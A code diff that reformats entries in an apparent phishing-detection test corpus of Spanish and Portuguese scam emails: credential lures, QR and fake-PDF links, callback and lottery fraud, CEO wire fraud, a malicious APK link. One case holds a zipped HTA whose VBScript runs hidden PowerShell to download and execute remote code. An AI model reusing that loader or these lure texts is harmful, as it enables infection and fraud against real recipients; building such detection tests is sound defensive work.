+      body: plain(
+        'Buenas tardes,\n\nOs dejo la confirmación del pedido y la factura proforma actualizada en el siguiente enlace. Tenéis que iniciar sesión con vuestra cuenta de correo para verlo:\n\nhttps://onedrive-docs-compartidos.sbs/s/Pedido_4471_proforma\n\nUn saludo,\nRaúl Campos\nSuministros Levante\n\nDe: Compras <compras@talleresbernal.com>\nEnviado: lunes, 7 de abril de 2025 11:02\nPara: Raúl Campos <rcampos@suministroslevante.es>\nAsunto: Pedido 4471 - tornillería M8\n\nHola Raúl, ¿nos confirmas plazo de entrega para las 20 cajas de M8x40 y el precio actualizado? Gracias.',
+      ),
     }),
   },
   {
@@ -544,8 +642,17 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['asesoria-lopezmarin.com:default'],
       relay: 'hosting27.servidoresweb.es [192.0.2.227]',
       body: multipart('mixed', [
-        plain('Buenos días,\n\nLe adjuntamos la factura electrónica FE-2025-00871 correspondiente al mes de septiembre.\n\nSi no puede visualizarla, pulse en «Descargar documento» dentro del PDF.\n\nUn saludo,\nDepartamento de Facturación'),
-        attachment('FE-2025-00871.pdf', 'application/pdf', textPdf(['FACTURA ELECTRONICA FE-2025-00871', 'El documento no se puede mostrar en esta version del visor.', 'Descargar documento'], 'https://descargas-facturae.icu/doc/FE-2025-00871.zip')),
+        plain(
+          'Buenos días,\n\nLe adjuntamos la factura electrónica FE-2025-00871 correspondiente al mes de septiembre.\n\nSi no puede visualizarla, pulse en «Descargar documento» dentro del PDF.\n\nUn saludo,\nDepartamento de Facturación',
+        ),
+        attachment(
+          'FE-2025-00871.pdf',
+          'application/pdf',
+          textPdf(
+            ['FACTURA ELECTRONICA FE-2025-00871', 'El documento no se puede mostrar en esta version del visor.', 'Descargar documento'],
+            'https://descargas-facturae.icu/doc/FE-2025-00871.zip',
+          ),
+        ),
       ]),
     }),
   },
@@ -566,14 +673,17 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       returnPath: 'bounces+51822914-a1b2-alvaro.pineda=gmail.com@em4471.bit2me-cumplimiento.com',
       relay: 'o1.ptr4471.bit2me-cumplimiento.com [149.72.120.44]',
       headers: ['X-SG-EID: u001.Kq8Rz1Wb7Lt4Xc9Vm3Pj6Hd0Fs5Ay2Ge8Ko1Mn4Tx', 'X-Entity-ID: u001.Pz4Lm8Qx2Tz9=='],
-      body: document([
-        { heading: 'Adaptación al reglamento MiCA' },
-        'Hola,',
-        'A partir del 30 de diciembre de 2024 el reglamento europeo MiCA obliga a todos los exchanges a volver a verificar a sus clientes. Las cuentas que no completen la verificación quedarán limitadas a solo retiradas y sus saldos podrán ser bloqueados.',
-        'Completa la verificación en menos de 5 minutos: inicia sesión, confirma tu identidad e introduce el código de tu app de autenticación.',
-        { button: 'Verificar mi cuenta', href: 'https://u51822914.ct.sendgrid.net/ls/click?upn=u001.Tz7Rb4Wn8Pc1Hd5Fj6As0Gy-2Bk4Vx3Kq9Lm2' },
-        { small: 'Bit2Me · Madrid, España. Nunca compartas tu contraseña.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: 'Adaptación al reglamento MiCA' },
+          'Hola,',
+          'A partir del 30 de diciembre de 2024 el reglamento europeo MiCA obliga a todos los exchanges a volver a verificar a sus clientes. Las cuentas que no completen la verificación quedarán limitadas a solo retiradas y sus saldos podrán ser bloqueados.',
+          'Completa la verificación en menos de 5 minutos: inicia sesión, confirma tu identidad e introduce el código de tu app de autenticación.',
+          { button: 'Verificar mi cuenta', href: 'https://u51822914.ct.sendgrid.net/ls/click?upn=u001.Tz7Rb4Wn8Pc1Hd5Fj6As0Gy-2Bk4Vx3Kq9Lm2' },
+          { small: 'Bit2Me · Madrid, España. Nunca compartas tu contraseña.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -592,13 +702,22 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['gestoriaribera.es:selector1'],
       relay: 'mail-vi1eur05on2104.outbound.protection.outlook.com [40.107.21.104]',
       body: multipart('mixed', [
-        plain('Buenos días,\n\nLe enviamos su nómina de diciembre junto con la paga extraordinaria. Por protección de datos el documento está cifrado: escanee el código QR con la cámara del móvil para acceder.\n\nUn saludo,\nDepartamento de Nóminas'),
-        attachment('Nomina_Diciembre_2025.pdf', 'application/pdf', qrPdf([
-          'NOMINA DICIEMBRE 2025 - PAGA EXTRAORDINARIA',
-          'Documento protegido (RGPD).',
-          'Escanee el codigo QR con su movil e inicie sesion con su cuenta',
-          'de correo corporativo para ver y descargar la nomina.',
-        ], 'https://nominas-portal.web.app/?id=YW1vbGluYUB0cmFuc3BvcnRlc21vbGluYS5lcw==')),
+        plain(
+          'Buenos días,\n\nLe enviamos su nómina de diciembre junto con la paga extraordinaria. Por protección de datos el documento está cifrado: escanee el código QR con la cámara del móvil para acceder.\n\nUn saludo,\nDepartamento de Nóminas',
+        ),
+        attachment(
+          'Nomina_Diciembre_2025.pdf',
+          'application/pdf',
+          qrPdf(
+            [
+              'NOMINA DICIEMBRE 2025 - PAGA EXTRAORDINARIA',
+              'Documento protegido (RGPD).',
+              'Escanee el codigo QR con su movil e inicie sesion con su cuenta',
+              'de correo corporativo para ver y descargar la nomina.',
+            ],
+            'https://nominas-portal.web.app/?id=YW1vbGluYUB0cmFuc3BvcnRlc21vbGluYS5lcw==',
+          ),
+        ),
       ]),
     }),
   },
@@ -617,7 +736,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'CAF9w2Lq7Rk5Mz1Xb8Vn4Tc3Hp6Jd0Gs@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-lf1-f41.google.com [209.85.167.41]',
-      body: gmailBody('Estimado cliente:\n\nGracias por renovar su suscripción. Su plan se ha renovado automáticamente y el cargo aparecerá en su extracto en las próximas 24 horas.\n\nProducto: McAfee Total Protection – 10 dispositivos\nDuración: 3 años\nImporte: 349,99 €\nMétodo de pago: tarjeta registrada\nNº de pedido: MCF-77302914\n\nSi usted no ha autorizado esta renovación o desea cancelarla y obtener el reembolso, llame a nuestro servicio de atención al cliente en las próximas 24 horas:\n\n+34 910 48 73 21\n\nAtentamente,\nDepartamento de Facturación'),
+      body: gmailBody(
+        'Estimado cliente:\n\nGracias por renovar su suscripción. Su plan se ha renovado automáticamente y el cargo aparecerá en su extracto en las próximas 24 horas.\n\nProducto: McAfee Total Protection – 10 dispositivos\nDuración: 3 años\nImporte: 349,99 €\nMétodo de pago: tarjeta registrada\nNº de pedido: MCF-77302914\n\nSi usted no ha autorizado esta renovación o desea cancelarla y obtener el reembolso, llame a nuestro servicio de atención al cliente en las próximas 24 horas:\n\n+34 910 48 73 21\n\nAtentamente,\nDepartamento de Facturación',
+      ),
     }),
   },
   // ---------------------------------------------------------------- Portuguese (Brazil)
@@ -636,7 +757,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'CP4P284MB1936F1A0C9E7B3D52A8E4C6F0D1B9@CP4P284MB1936.BRAP284.PROD.OUTLOOK.COM',
       dkim: ['outlook.com:selector1'],
       relay: 'mail-cp2bra01olkn2040.outbound.protection.outlook.com [40.92.42.40]',
-      body: plain('Olá, Fernanda.\n\nUma compra foi aprovada no seu cartão de crédito final 4417:\n\nEstabelecimento: MAGAZINE ONLINE ELETRO\nValor: R$ 4.879,00 (à vista)\nData: 11/10/2025 21:39\n\nNão reconhece esta compra? Ligue imediatamente para a nossa Central de Segurança 24h: 0800 591 4782 e informe o protocolo 55128. Não responda este e-mail.\n\nNubank'),
+      body: plain(
+        'Olá, Fernanda.\n\nUma compra foi aprovada no seu cartão de crédito final 4417:\n\nEstabelecimento: MAGAZINE ONLINE ELETRO\nValor: R$ 4.879,00 (à vista)\nData: 11/10/2025 21:39\n\nNão reconhece esta compra? Ligue imediatamente para a nossa Central de Segurança 24h: 0800 591 4782 e informe o protocolo 55128. Não responda este e-mail.\n\nNubank',
+      ),
     }),
   },
   {
@@ -656,13 +779,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       returnPath: 'bounces-7102334-rodrigo.almeida82=hotmail.com@sendibm1.com',
       relay: 'm118.sendibm1.com [77.32.148.118]',
       headers: brevoHeaders('7102334', 'y7Kq2Lm9Rz4Wt1Xb8Vc3Np'),
-      body: document([
-        { heading: 'Você recebeu uma transferência' },
-        'Olá! Uma transferência de R$ 2.300,00 foi enviada para a sua conta Mercado Pago, mas ficou retida por segurança.',
-        'Para liberar o valor, acesse sua conta e confirme seus dados em até 24 horas. Depois desse prazo o dinheiro é devolvido ao remetente.',
-        { button: 'Liberar dinheiro', href: 'https://7102334.r.af.d.sendibt2.com/tr/cl/h8Kq2Lm9Rz4Wt1Xb8Vc3NpYd5' },
-        { small: 'Móveis Gasparini · Rua XV de Novembro, 1120, Blumenau – SC. Cancelar inscrição.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Você recebeu uma transferência' },
+          'Olá! Uma transferência de R$ 2.300,00 foi enviada para a sua conta Mercado Pago, mas ficou retida por segurança.',
+          'Para liberar o valor, acesse sua conta e confirme seus dados em até 24 horas. Depois desse prazo o dinheiro é devolvido ao remetente.',
+          { button: 'Liberar dinheiro', href: 'https://7102334.r.af.d.sendibt2.com/tr/cl/h8Kq2Lm9Rz4Wt1Xb8Vc3NpYd5' },
+          { small: 'Móveis Gasparini · Rua XV de Novembro, 1120, Blumenau – SC. Cancelar inscrição.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -680,13 +806,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '6926f03b.a1c7e9@serasa-limpanome.top',
       relay: 'mail.serasa-limpanome.top [203.0.113.66]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        { heading: 'Feirão Limpa Nome' },
-        'Juliana, identificamos uma dívida em seu CPF com a empresa CREDICARD S.A. no valor de R$ 3.214,77.',
-        'Somente hoje você pode quitar por R$ 128,59 (96% de desconto) e ter o nome limpo em até 5 dias úteis.',
-        { button: 'Gerar boleto do acordo', href: 'https://serasa-limpanome.top/acordo?cpf=***.214.887-**' },
-        'A oferta expira às 23h59.',
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Feirão Limpa Nome' },
+          'Juliana, identificamos uma dívida em seu CPF com a empresa CREDICARD S.A. no valor de R$ 3.214,77.',
+          'Somente hoje você pode quitar por R$ 128,59 (96% de desconto) e ter o nome limpo em até 5 dias úteis.',
+          { button: 'Gerar boleto do acordo', href: 'https://serasa-limpanome.top/acordo?cpf=***.214.887-**' },
+          'A oferta expira às 23h59.',
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -704,14 +833,17 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '20250818113317.5c2a@govbr-validacao.sbs',
       relay: 'srv.govbr-validacao.sbs [198.51.100.141]',
       auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
-      body: document([
-        { heading: 'Atualização cadastral obrigatória' },
-        'Prezado(a) cidadão(ã),',
-        'Sua conta gov.br nível ouro precisa ser revalidada. Sem a revalidação até 20/08/2025, a conta será rebaixada para o nível bronze e você perderá o acesso ao Meu INSS, FGTS Digital, CNH do Brasil e à declaração do Imposto de Renda.',
-        'A revalidação é feita com a sua senha gov.br e uma selfie (reconhecimento facial):',
-        { button: 'Revalidar minha conta', href: 'https://govbr-validacao.sbs/acesso/revalidar' },
-        'Ministério da Gestão e da Inovação em Serviços Públicos',
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Atualização cadastral obrigatória' },
+          'Prezado(a) cidadão(ã),',
+          'Sua conta gov.br nível ouro precisa ser revalidada. Sem a revalidação até 20/08/2025, a conta será rebaixada para o nível bronze e você perderá o acesso ao Meu INSS, FGTS Digital, CNH do Brasil e à declaração do Imposto de Renda.',
+          'A revalidação é feita com a sua senha gov.br e uma selfie (reconhecimento facial):',
+          { button: 'Revalidar minha conta', href: 'https://govbr-validacao.sbs/acesso/revalidar' },
+          'Ministério da Gestão e da Inovação em Serviços Públicos',
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -728,7 +860,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'CAM4p8Lq2Rk7Xz1Vb9Nc5Tw3Hd6Jf0Gs@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-qk1-f181.google.com [209.85.222.181]',
-      body: gmailBody('Olá Larissa, tudo bem?\n\nSou a Camila, da Digital Talentos. Seu perfil foi selecionado para uma vaga home office de meio período para ajudar marcas a aumentar o engajamento no TikTok e no YouTube.\n\nVocê só precisa curtir e seguir vídeos pelo celular, de 20 a 40 minutos por dia. Cada tarefa paga de R$ 2 a R$ 15 e a média é de R$ 50 a R$ 300 por dia, com pagamento diário via Pix. Depois do período de teste você participa das missões premium, com depósito de ativação a partir de R$ 100 e retorno de 30%.\n\nPara começar, chame a nossa recrutadora no Telegram: https://t.me/DigitalTalentosRH e informe o código DT-4471.\n\nAbraço,\nCamila Duarte\nRecrutamento'),
+      body: gmailBody(
+        'Olá Larissa, tudo bem?\n\nSou a Camila, da Digital Talentos. Seu perfil foi selecionado para uma vaga home office de meio período para ajudar marcas a aumentar o engajamento no TikTok e no YouTube.\n\nVocê só precisa curtir e seguir vídeos pelo celular, de 20 a 40 minutos por dia. Cada tarefa paga de R$ 2 a R$ 15 e a média é de R$ 50 a R$ 300 por dia, com pagamento diário via Pix. Depois do período de teste você participa das missões premium, com depósito de ativação a partir de R$ 100 e retorno de 30%.\n\nPara começar, chame a nossa recrutadora no Telegram: https://t.me/DigitalTalentosRH e informe o código DT-4471.\n\nAbraço,\nCamila Duarte\nRecrutamento',
+      ),
     }),
   },
   {
@@ -745,7 +879,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'RO2P284MB1120E8C1A7F9B3D05A2C6E4F1B8D0@RO2P284MB1120.BRAP284.PROD.OUTLOOK.COM',
       dkim: ['outlook.com:selector1'],
       relay: 'mail-cp2bra01olkn2071.outbound.protection.outlook.com [40.92.42.71]',
-      body: plain('Prezado Sr. Antônio Ferreira,\n\nTemos o prazer de informar que o seu CPF foi sorteado no Sorteio Especial de Clientes da Mega da Virada 2025, e o senhor foi contemplado com o prêmio de R$ 1.200.000,00 (um milhão e duzentos mil reais).\n\nPara liberar o prêmio, é necessário o recolhimento do imposto de transferência (ITCMD) e dos honorários do advogado responsável, no valor total de R$ 1.870,00, que devem ser pagos via Pix antes do crédito.\n\nEntre em contato com o Dr. Marcelo Vasconcelos pelo WhatsApp (61) 99187-4420 informando o número do bilhete 04-17-22-35-48-59.\n\nO prazo para resgate é de 5 dias úteis.\n\nAtenciosamente,\nDepartamento de Premiação'),
+      body: plain(
+        'Prezado Sr. Antônio Ferreira,\n\nTemos o prazer de informar que o seu CPF foi sorteado no Sorteio Especial de Clientes da Mega da Virada 2025, e o senhor foi contemplado com o prêmio de R$ 1.200.000,00 (um milhão e duzentos mil reais).\n\nPara liberar o prêmio, é necessário o recolhimento do imposto de transferência (ITCMD) e dos honorários do advogado responsável, no valor total de R$ 1.870,00, que devem ser pagos via Pix antes do crédito.\n\nEntre em contato com o Dr. Marcelo Vasconcelos pelo WhatsApp (61) 99187-4420 informando o número do bilhete 04-17-22-35-48-59.\n\nO prazo para resgate é de 5 dias úteis.\n\nAtenciosamente,\nDepartamento de Premiação',
+      ),
     }),
   },
   {
@@ -762,13 +898,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'e41c9a7b2f3d@cnh-digital-app.icu',
       relay: 'vps.cnh-digital-app.icu [203.0.113.205]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        'Prezado condutor,',
-        'A versão atual do aplicativo Carteira Digital de Trânsito foi descontinuada. Para manter sua CNH digital válida, instale a nova versão do aplicativo CNH do Brasil no seu celular Android em até 48 horas.',
-        { button: 'Baixar o aplicativo', href: 'https://cnh-digital-app.icu/download/CNH_do_Brasil_v5.2.apk' },
-        'Após a instalação, ative a permissão de acessibilidade para validar seus dados.',
-        'Secretaria Nacional de Trânsito',
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          'Prezado condutor,',
+          'A versão atual do aplicativo Carteira Digital de Trânsito foi descontinuada. Para manter sua CNH digital válida, instale a nova versão do aplicativo CNH do Brasil no seu celular Android em até 48 horas.',
+          { button: 'Baixar o aplicativo', href: 'https://cnh-digital-app.icu/download/CNH_do_Brasil_v5.2.apk' },
+          'Após a instalação, ative a permissão de acessibilidade para validar seus dados.',
+          'Secretaria Nacional de Trânsito',
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -787,7 +926,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['guimaraesarquitetura.com.br:selector1'],
       relay: 'mail-cp2bra01on2102.outbound.protection.outlook.com [40.107.246.102]',
       headers: ['In-Reply-To: <a7c2e9f1b4d8@construtoraparana.com.br>', 'References: <a7c2e9f1b4d8@construtoraparana.com.br>'],
-      body: plain('Boa tarde,\n\nSegue a planilha atualizada com os valores revisados. Para abrir é só entrar com o seu e-mail e senha:\n\nhttps://excel-online-planilhas.cfd/view/orcamento_reforma_rev3.xlsx\n\nAbs,\nRenata\n\nEm ter., 4 de fev. de 2025 às 10:41, Obras <obras@construtoraparana.com.br> escreveu:\n> Renata, pode mandar a planilha com o orçamento revisado da sala 804? Precisamos aprovar até sexta.'),
+      body: plain(
+        'Boa tarde,\n\nSegue a planilha atualizada com os valores revisados. Para abrir é só entrar com o seu e-mail e senha:\n\nhttps://excel-online-planilhas.cfd/view/orcamento_reforma_rev3.xlsx\n\nAbs,\nRenata\n\nEm ter., 4 de fev. de 2025 às 10:41, Obras <obras@construtoraparana.com.br> escreveu:\n> Renata, pode mandar a planilha com o orçamento revisado da sala 804? Precisamos aprovar até sexta.',
+      ),
     }),
   },
   {
@@ -804,13 +945,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '1750071520.9c3a7e@ferragensitaipu.com.br',
       dkim: ['ferragensitaipu.com.br:default'],
       relay: 'smtp.ferragensitaipu.com.br [192.0.2.64]',
-      body: document([
-        'Prezado usuário financeiro@distribuidoramarajo.com.br,',
-        'Sua caixa de e-mail atingiu 99% da capacidade. Novas mensagens estão sendo devolvidas ao remetente e a conta será desativada em 24 horas.',
-        'Para liberar mais espaço gratuitamente, confirme sua conta no formulário abaixo:',
-        { button: 'Liberar espaço', href: 'https://docs.google.com/forms/d/e/1FAIpQLSc7Kq2Lm9Rz4Wt1Xb8Vc3NpYd5Hf6Gs0Ae2Tk/viewform' },
-        'Equipe de Suporte Webmail Locaweb',
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          'Prezado usuário financeiro@distribuidoramarajo.com.br,',
+          'Sua caixa de e-mail atingiu 99% da capacidade. Novas mensagens estão sendo devolvidas ao remetente e a conta será desativada em 24 horas.',
+          'Para liberar mais espaço gratuitamente, confirme sua conta no formulário abaixo:',
+          { button: 'Liberar espaço', href: 'https://docs.google.com/forms/d/e/1FAIpQLSc7Kq2Lm9Rz4Wt1Xb8Vc3NpYd5Hf6Gs0Ae2Tk/viewform' },
+          'Equipe de Suporte Webmail Locaweb',
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -831,14 +975,24 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['academiaforcatotal.com.br:dk', 'acems3.com:dk'],
       returnPath: 'bounce-48213-1183-28813-sandra.moraes=uol.com.br@acems3.com',
       relay: 'acems3-22.acems3.com [192.92.97.22]',
-      headers: ['List-Unsubscribe: <https://academiaforcatotal.activehosted.com/box.php?nl=3&c=1183&m=1190&s=9f2e7a1c&funcml=unsub2>', LIST_UNSUBSCRIBE_POST, 'X-mid: c2FuZHJhLm1vcmFlc0B1b2wuY29tLmJyICwgMTE4Mw=='],
-      body: document([
-        { heading: 'Petro IA: o robô que investe por você' },
-        'A nova plataforma de investimentos com inteligência artificial, criada para acionistas da Petrobras, está aberta para 500 novos participantes.',
-        'Com um depósito inicial de apenas R$ 1.500,00 o robô opera sozinho e rende em média R$ 9.000 por mês. Um gestor pessoal entra em contato pelo WhatsApp para ativar sua conta.',
-        { button: 'Quero participar', href: 'https://academiaforcatotal.lt.acemlnb.com/Prod/link-tracker?redirectUrl=aHR0cHM6Ly9wZXRyby1pYS1pbnZlc3QudG9wL2NhZGFzdHJv&sig=7mQx2Lr9Tn4Vb1Kc8Zp3Wy6Hd5Fj0As&iat=1757775605&a=%7C%7C48213%7C%7C&account=academiaforcatotal%2Eactivehosted%2Ecom&email=c2FuZHJh&s=9f2e7a1c&i=1190A1183A3A28813' },
-        { small: 'Vagas limitadas. Academia Força Total · Av. Brasil, 2040, Londrina – PR. Descadastrar.' },
-      ], { lang: 'pt-BR' }),
+      headers: [
+        'List-Unsubscribe: <https://academiaforcatotal.activehosted.com/box.php?nl=3&c=1183&m=1190&s=9f2e7a1c&funcml=unsub2>',
+        LIST_UNSUBSCRIBE_POST,
+        'X-mid: c2FuZHJhLm1vcmFlc0B1b2wuY29tLmJyICwgMTE4Mw==',
+      ],
+      body: document(
+        [
+          { heading: 'Petro IA: o robô que investe por você' },
+          'A nova plataforma de investimentos com inteligência artificial, criada para acionistas da Petrobras, está aberta para 500 novos participantes.',
+          'Com um depósito inicial de apenas R$ 1.500,00 o robô opera sozinho e rende em média R$ 9.000 por mês. Um gestor pessoal entra em contato pelo WhatsApp para ativar sua conta.',
+          {
+            button: 'Quero participar',
+            href: 'https://academiaforcatotal.lt.acemlnb.com/Prod/link-tracker?redirectUrl=aHR0cHM6Ly9wZXRyby1pYS1pbnZlc3QudG9wL2NhZGFzdHJv&sig=7mQx2Lr9Tn4Vb1Kc8Zp3Wy6Hd5Fj0As&iat=1757775605&a=%7C%7C48213%7C%7C&account=academiaforcatotal%2Eactivehosted%2Ecom&email=c2FuZHJh&s=9f2e7a1c&i=1190A1183A3A28813',
+          },
+          { small: 'Vagas limitadas. Academia Força Total · Av. Brasil, 2040, Londrina – PR. Descadastrar.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   // ---------------------------------------------------------------- Portuguese (Portugal)
@@ -857,13 +1011,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '682319da.7c1e4a@seg-social-reembolsos.top',
       relay: 'mail.seg-social-reembolsos.top [198.51.100.58]',
       auth: { dkim: 'none', spf: 'softfail', dmarc: 'none' },
-      body: document([
-        'Exmo.(a) Senhor(a),',
-        'Após a verificação anual das contribuições, apurou-se um valor pago em excesso de 412,36 €, que lhe será reembolsado.',
-        'Para receber o reembolso, aceda à Segurança Social Direta e confirme o seu IBAN no prazo de 5 dias úteis. Findo esse prazo, o valor reverte a favor do Estado.',
-        { button: 'Aceder à Segurança Social Direta', href: 'https://seg-social-reembolsos.top/ssd/reembolso' },
-        'Instituto da Segurança Social, I.P.',
-      ], { lang: 'pt-PT' }),
+      body: document(
+        [
+          'Exmo.(a) Senhor(a),',
+          'Após a verificação anual das contribuições, apurou-se um valor pago em excesso de 412,36 €, que lhe será reembolsado.',
+          'Para receber o reembolso, aceda à Segurança Social Direta e confirme o seu IBAN no prazo de 5 dias úteis. Findo esse prazo, o valor reverte a favor do Estado.',
+          { button: 'Aceder à Segurança Social Direta', href: 'https://seg-social-reembolsos.top/ssd/reembolso' },
+          'Instituto da Segurança Social, I.P.',
+        ],
+        { lang: 'pt-PT' },
+      ),
     }),
   },
   {
@@ -882,13 +1039,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       dkim: ['edp-clientes-pt.cfd:default'],
       relay: 'vps-eu.edp-clientes-pt.cfd [203.0.113.32]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Aviso de interrupção do fornecimento' },
-        'Caro(a) cliente,',
-        'Não recebemos o pagamento da sua fatura de setembro no valor de 73,18 €. Caso o pagamento não seja efetuado nas próximas 48 horas, o fornecimento de eletricidade será interrompido e será cobrada uma taxa de religação de 32,50 €.',
-        { button: 'Pagar fatura', href: 'https://edp-clientes-pt.cfd/pagamento?cl=7710293' },
-        { small: 'EDP Comercial – Comercialização de Energia, S.A. Esta é uma mensagem automática.' },
-      ], { lang: 'pt-PT' }),
+      body: document(
+        [
+          { heading: 'Aviso de interrupção do fornecimento' },
+          'Caro(a) cliente,',
+          'Não recebemos o pagamento da sua fatura de setembro no valor de 73,18 €. Caso o pagamento não seja efetuado nas próximas 48 horas, o fornecimento de eletricidade será interrompido e será cobrada uma taxa de religação de 32,50 €.',
+          { button: 'Pagar fatura', href: 'https://edp-clientes-pt.cfd/pagamento?cl=7710293' },
+          { small: 'EDP Comercial – Comercialização de Energia, S.A. Esta é uma mensagem automática.' },
+        ],
+        { lang: 'pt-PT' },
+      ),
     }),
   },
   {
@@ -906,13 +1066,16 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'b9e2c1a7-4d3f-4e8a-9c1b-0f2e6d1a3c5b@olx-entregas.shop',
       relay: 'mail.olx-entregas.shop [198.51.100.230]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: document([
-        { heading: 'O comprador pagou a sua encomenda' },
-        'Olá! O pagamento de 95,00 € pelo anúncio «Carrinho de bebé Bugaboo Fox» foi efetuado através do OLX Entregas.',
-        'Para receber o dinheiro na sua conta, indique o número de telemóvel associado ao MB WAY e os dados do cartão. Depois de receber o valor, o estafeta recolhe o artigo.',
-        { button: 'Receber 95,00 €', href: 'https://olx-entregas.shop/receber?id=88210453' },
-        { small: 'OLX Portugal · O pagamento expira em 12 horas.' },
-      ], { lang: 'pt-PT' }),
+      body: document(
+        [
+          { heading: 'O comprador pagou a sua encomenda' },
+          'Olá! O pagamento de 95,00 € pelo anúncio «Carrinho de bebé Bugaboo Fox» foi efetuado através do OLX Entregas.',
+          'Para receber o dinheiro na sua conta, indique o número de telemóvel associado ao MB WAY e os dados do cartão. Depois de receber o valor, o estafeta recolhe o artigo.',
+          { button: 'Receber 95,00 €', href: 'https://olx-entregas.shop/receber?id=88210453' },
+          { small: 'OLX Portugal · O pagamento expira em 12 horas.' },
+        ],
+        { lang: 'pt-PT' },
+      ),
     }),
   },
   {
@@ -930,7 +1093,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: '1742385129.8a2c@metalurgica-avelar.pt.com',
       relay: 'mail.metalurgica-avelar.pt.com [192.0.2.199]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: plain('Cláudia, bom dia.\n\nEstou numa reunião com os advogados a fechar a aquisição de uma empresa em Espanha e preciso da sua ajuda com discrição total: o assunto ainda não pode ser comunicado ao resto da equipa.\n\nPreciso que faça hoje uma transferência de 48.500,00 € como sinal. Envio-lhe já o IBAN e a referência. Consegue tratar antes das 15h?\n\nResponda só para este e-mail, não me ligue porque estou em reunião.\n\nObrigado,\nLuís Pacheco\nAdministrador\n\nEnviado do meu iPhone'),
+      body: plain(
+        'Cláudia, bom dia.\n\nEstou numa reunião com os advogados a fechar a aquisição de uma empresa em Espanha e preciso da sua ajuda com discrição total: o assunto ainda não pode ser comunicado ao resto da equipa.\n\nPreciso que faça hoje uma transferência de 48.500,00 € como sinal. Envio-lhe já o IBAN e a referência. Consegue tratar antes das 15h?\n\nResponda só para este e-mail, não me ligue porque estou em reunião.\n\nObrigado,\nLuís Pacheco\nAdministrador\n\nEnviado do meu iPhone',
+      ),
     }),
   },
   {
@@ -949,9 +1114,14 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       relay: 'cpanel03.ptisp.pt [192.0.2.73]',
       body: multipart('mixed', [
         plain('Bom dia,\n\nEnviamos em anexo a fatura-recibo FR 2025/1187 referente aos serviços de junho.\n\nCom os melhores cumprimentos,\nContabilidade'),
-        attachment('FR_2025_1187.zip', 'application/zip', zip({
-          'FR_2025_1187.hta': '<html><head><HTA:APPLICATION id="f" windowstate="minimize"><script language="VBScript">Set s = CreateObject("WScript.Shell")\ns.Run "powershell -w hidden -c ""iwr https://cdn-faturas.icu/p.txt -useb | iex""", 0\nself.close</script></head><body></body></html>',
-        })),
+        attachment(
+          'FR_2025_1187.zip',
+          'application/zip',
+          zip({
+            'FR_2025_1187.hta':
+              '<html><head><HTA:APPLICATION id="f" windowstate="minimize"><script language="VBScript">Set s = CreateObject("WScript.Shell")\ns.Run "powershell -w hidden -c ""iwr https://cdn-faturas.icu/p.txt -useb | iex""", 0\nself.close</script></head><body></body></html>',
+          }),
+        ),
       ]),
     }),
   },
@@ -969,7 +1139,9 @@ export const THIRD_CASES: readonly PhishingCase[] = [
       messageId: 'CAK7r2Lq9Mx4Tz1Vb8Pn5Wc3Hd6Jf0Gs@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-ed1-f46.google.com [209.85.208.46]',
-      body: gmailBody('Exma. Senhora Manuela Teixeira,\n\nTemos o prazer de informar que o seu endereço de e-mail foi selecionado no sorteio internacional de endereços eletrónicos associado ao Euromilhões, com o prémio de 850.000,00 € (oitocentos e cinquenta mil euros).\n\nPara que a transferência seja efetuada, deverá pagar previamente o imposto do selo e as despesas de processamento, no valor de 1.240,00 €, e enviar-nos uma cópia do cartão de cidadão e o IBAN.\n\nO prémio deve ser reclamado no prazo de 10 dias, caso contrário reverte para o próximo sorteio. Mantenha esta notificação confidencial.\n\nCom os melhores cumprimentos,\nDr. Rui Antunes\nGestor de Prémios'),
+      body: gmailBody(
